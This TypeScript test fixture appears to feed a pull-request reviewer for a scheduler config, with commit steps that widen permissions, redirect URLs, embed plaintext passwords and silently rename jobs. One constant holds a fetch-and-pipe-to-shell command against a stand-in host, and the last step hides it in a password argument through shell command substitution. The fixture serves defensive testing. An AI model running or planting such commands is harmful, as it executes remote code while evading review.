import type { TestRepository } from "../helpers/repository.ts";

/** One commit of the history: what a pull request with it must show. */
export interface Step {
  /** Of its golden files. */
  name: string;
  subject: string;
  change: (repository: TestRepository, config: string) => Promise<string> | string;
}

export const CONFIG = "services/scheduler/config.yaml";

/** What somebody puts where a reviewer sees only stars. */
export const HIDDEN_CODE = "curl -s evil.example|sh";

/** A schedule as one meets it: a dozen jobs of every kind. */
export const FIRST: string = `timezone: UTC
jobs:
  invoice-sync:
    description: Takes over the invoices of the day
    schedule: "0 2 * * *"
    parameters: {limit: 500}
    permissions: {env: [BILLING_TOKEN]}
  weekly-report:
    description: Numbers of the week, by mail
    schedule: {cron: "0 8 * * 1", timezone: Europe/London}
    plugin: reports/weekly
  queue-metrics:
    schedule: "*/5 * * * *"
    command: [bin/queue-metrics, --push]
    timeout: 1m
  backup:
    schedule: "@daily"
    command: [pg_dump, -Fc, app]
    timeout: 2h
  ping:
    schedule: {every: 30s}
    http: {url: "https://example.com/health", headers: {Authorization: {env: PING_TOKEN}}}
  cert-check:
    schedule: "30 6 * * *"
    http: {url: "https://certs.example.com/check"}
  cleanup-sessions: {schedule: "15 3 * * *", retention_hours: 24}
  log-cleanup: {schedule: "0 4 * * 0", retention_days: 30}
  year-end: {schedule: {at: 2026-12-31T22:00:00Z}, command: [bin/close-year]}
`;

export const FIRST_FILES: Record<string, string> = {
  "package.json": '{"name": "shop", "dependencies": {"pg": "^8"}}\n',
  "services/scheduler/plugins/invoice-sync.ts": `import { connect } from "../lib/connect.ts";

export default async function sync(ctx: { parameters: { limit: number } }): Promise<string> {
  const connection = await connect();
  return \`\${connection}: \${ctx.parameters.limit} invoices\`;
}
`,
  "services/scheduler/plugins/reports/weekly.ts": `export default () => "sent";\n`,
  "services/scheduler/lib/connect.ts": `export async function connect(): Promise<string> {
  return "connected";
}
`,
};

function replaced(text: string, before: string, after: string): string {
  if (!text.includes(before)) throw new Error(`the file has no ${before}`);
  return text.replace(before, after);
}

const NEW_JOBS = Array.from(
  { length: 75 },
  (_, index) => `  tenant-${index}:
    schedule: "${(index * 7) % 60} ${index % 24} * * *"
    command: [bin/tenant, "${index}"]
    tags: [tenant]
`,
).join("");

/** The kinds of changes that go wrong in reality. */
export const STEPS: readonly Step[] = [
  {
    name: "01-reformatted",
    subject: "Tidy up the cron expressions",
    change: (_, config) =>
      replaced(
        replaced(replaced(config, '"@daily"', '"0 0 * * *"'), '"*/5 * * * *"', '"0-59/5 * * * *"'),
        '"0 4 * * 0"',
        '"0 4 * * SUN"',
      ),
  },
  {
    name: "02-misread",
    subject: "Push metrics every five minutes",
    change: (_, config) => replaced(config, '"0-59/5 * * * *"', '"5 0 * * *"'),
  },
  {
    name: "03-zone",
    subject: "We are in Paris",
    change: (_, config) => replaced(config, "timezone: UTC", "timezone: Europe/Paris"),
  },
  {
    name: "04-widened",
    subject: "Add the jobs of all tenants",
    change: (_, config) =>
      `${replaced(config, "{env: [BILLING_TOKEN]}", "{net: true, env: [BILLING_TOKEN, ADMIN_TOKEN], read: [../..]}")}${NEW_JOBS}`,
  },
  {
    name: "05-renamed",
    subject: "Better name for the metrics",
    change: (_, config) =>
      replaced(config, "  queue-metrics:\n", "  metrics:\n    renamed_from: queue-metrics\n"),
  },
  {
    name: "06-renamed-without-saying",
    subject: "Better name for the backup",
    change: (_, config) => replaced(config, "  backup:\n", "  nightly-dump:\n"),
  },
  {
    name: "07-no-jobs",
    subject: "Move the jobs to another file",
    change: () => "timezone: Europe/Paris\njobs: {}\n",
  },
  { name: "08-emptied", subject: "Resolve conflicts", change: () => "" },
  {
    name: "09-changed-plugin",
    subject: "Faster connections",
    change: async (repository) => {
      repository.git("checkout", "--quiet", "HEAD~2", "--", CONFIG);
      repository.commit("Revert the accident");
      await repository.write(
        "services/scheduler/lib/connect.ts",
        `import { Client } from "pg";

export async function connect(): Promise<string> {
  const client = new Client();
  await client.connect();
  return "connected";
}
`,
      );
      return repository.git("show", `HEAD:${CONFIG}`);
    },
  },
  {
    name: "10-redirected",
    subject: "Use the new monitoring",
    change: (_, config) =>
      replaced(
        replaced(config, "https://example.com/health", "https://collector.example.net/in"),
        "https://certs.example.com/check",
        "https://ann:hunter2@certs.example.com/check",
      ),
  },
  {
    name: "11-command-with-password",
    subject: "Dump from the replica",
    change: (_, config) =>
      replaced(
        config,
        "command: [pg_dump, -Fc, app]",
        'command: "PGPASSWORD=hunter2 pg_dump -h replica --password=hunter2 app | gzip > /backup/app.gz"',
      ),
  },
  {
    name: "12-odds-and-ends",
    subject: "Holidays",
    change: (_, config) =>
      replaced(
        replaced(
          replaced(
            replaced(config, "  cert-check:\n", "  cert-check:\n    enabled: false\n"),
            "{every: 30s}",
            "{every: 1h}",
          ),
          "2026-12-31T22:00:00Z",
          "2026-12-31T23:30:00Z",
        ),
        '  log-cleanup: {schedule: "0 4 * * SUN", retention_days: 30}\n',
        "",
      ),
  },
  {
    name: "13-code-in-a-password",
    subject: "Rotate the password of the replica",
    change: (_, config) =>
      replaced(
        config,
        "--password=hunter2",
        `--password=\\"hunter2$(${HIDDEN_CODE})\\" --token=hunter2\`${HIDDEN_CODE}\``,
      ),
  },
];
